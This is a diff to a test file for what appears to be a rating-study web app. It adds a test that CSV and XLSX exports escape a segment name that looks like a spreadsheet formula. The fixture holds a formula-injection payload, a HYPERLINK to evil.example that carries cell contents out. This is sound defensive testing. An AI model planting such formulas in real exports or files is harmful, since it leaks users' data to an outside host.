@@ -22,6 +22,7 @@ from .conftest import full_answers
 LEVELS = {"rater1": [2, 4, 5, 6], "rater2": [3, 4, 4, 7], "rater3": [3, 5, 6, 7]}
 REFERENCE = [2, 4, 5, 6]
 SEGMENT_NAMES = ["Opening", "Part 3", "Part 6", "Part 9"]
+EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"open")'
 
 
 def expected_icc(form: str) -> float:
@@ -143,6 +144,24 @@ class TestExports:
             for name, values in LEVELS.items()
             for index, segment_name in enumerate(SEGMENT_NAMES)
         }
+
+    @pytest.mark.parametrize("extension", ["csv", "xlsx"])
+    def test_a_segment_name_that_looks_like_a_formula_stays_text(self, leader_client, rated_study, extension):
+        rated_study.segments.filter(name="Part 3").update(name=EVIL)
+        response = leader_client.get(reverse("rating:export", args=[rated_study.public_id, "ratings", extension]))
+        if extension == "csv":
+            rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+            names, values = {row["segment_name"] for row in rows}, {row["value"] for row in rows}
+        else:
+            sheet = load_workbook(io.BytesIO(response.content))["ratings"]
+            cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+            assert {cell.data_type for cell in cells} == {"s"}
+            names, values = (
+                {cell.value for cell in cells},
+                {row[4] for row in sheet.iter_rows(min_row=2, values_only=True)},
+            )
+            assert all(isinstance(value, int) for value in values)
+        assert f"'{EVIL}" in names and EVIL not in names
 
     def test_an_unknown_table_is_not_found(self, leader_client, rated_study):
         url = reverse("rating:export", args=[rated_study.public_id, "items", "csv"]).replace("items", "people")
